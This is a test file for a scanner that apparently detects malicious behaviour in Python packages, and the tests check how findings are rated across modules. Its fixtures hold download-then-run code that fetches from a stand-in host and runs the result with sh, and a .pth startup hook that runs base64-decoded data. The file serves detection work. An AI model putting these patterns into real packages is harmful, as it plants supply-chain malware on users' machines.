import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { expect, test } from 'vitest';
import { analyseArchive } from '../../src/analysis/analyse-archive.js';
import { parsePackageName } from '../../src/core/name.js';
import { loadPythonParser } from '../../src/python/parser.js';
import * as rules from '../../src/rules/registry.js';

const parser = loadPythonParser({ wasmRuntime: 'node_modules/web-tree-sitter/web-tree-sitter.wasm', wasmGrammar: 'data/grammar/tree-sitter-python.wasm' });
const FETCHES = 'import urllib.request\n\n\ndef fetch():\n    return urllib.request.urlopen("https://example.invalid/part").read()\n';
const STARTS = 'import subprocess\n\n\ndef launch(data):\n    with open("/tmp/.part", "wb") as stream:\n        stream.write(data)\n    subprocess.Popen(["sh", "/tmp/.part"])\n';

async function found(files: Readonly<Record<string, string>>, wanted = 'download-then-run'): Promise<readonly string[]> {
  const folder = mkdtempSync(join(tmpdir(), 'depsec-linked-'));
  try {
    for (const [path, text] of Object.entries(files)) {
      mkdirSync(dirname(join(folder, path)), { recursive: true });
      writeFileSync(join(folder, path), text);
    }
    const { findings } = await analyseArchive(folder, { rules, loadParser: () => parser }, { name: parsePackageName('plot'), version: '1.0' });
    return findings.filter(({ rule }) => rule === wanted).map(({ severity, file }) => `${severity} ${file}`);
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

test('what one module fetches and another one starts is one behaviour, by way of a third', async () => {
  const files = { 'plot/__init__.py': 'from .first import Bed\n\nBed().grow()\n', 'plot/first.py': 'from .fetching import fetch\nfrom .starting import launch\n\n\nclass Bed:\n    def grow(self):\n        launch(fetch())\n', 'plot/fetching.py': FETCHES, 'plot/starting.py': STARTS };
  expect(await found(files)).toEqual(['critical plot/starting.py']);
});

test('what nobody calls stays latent', async () => {
  const files = { 'plot/__init__.py': '', 'plot/first.py': 'from .fetching import fetch\nfrom .starting import launch\n\n\ndef grow():\n    launch(fetch())\n', 'plot/fetching.py': FETCHES, 'plot/starting.py': STARTS };
  expect(await found(files)).toEqual(['low plot/starting.py']);
});

test('a function that is given what the package brings runs nothing that was fetched', async () => {
  expect(await found({ 'plot/__init__.py': 'from .starting import launch\nfrom .fetching import fetch\n\nlaunch(b"echo")\nSTATE = fetch\n', 'plot/fetching.py': FETCHES, 'plot/starting.py': STARTS })).toEqual([]);
});

const HOOK = 'import base64, subprocess, sys\nclass Finder:\n    def find_spec(self, name, path=None, target=None):\n        subprocess.Popen([sys.executable, "-c", base64.b64decode(x)])\ndef install(finders): finders.insert(0, Finder())\n';

test('what a line of a .pth file calls runs when Python starts', async () => {
  expect(await found({ 'plot.pth': '/some/folder\nimport sys, plot.hook; plot.hook.install(sys.meta_path)\n', 'plot/__init__.py': '', 'plot/hook.py': HOOK }, 'exec-of-decoded-data')).toContain('critical plot/hook.py');
});

test('a line of a .pth file that is a folder calls nothing', async () => {
  expect(await found({ 'plot.pth': 'plot.hook.install(sys.meta_path)\n', 'plot/__init__.py': '', 'plot/hook.py': HOOK }, 'exec-of-decoded-data')).toEqual(['low plot/hook.py']);
});
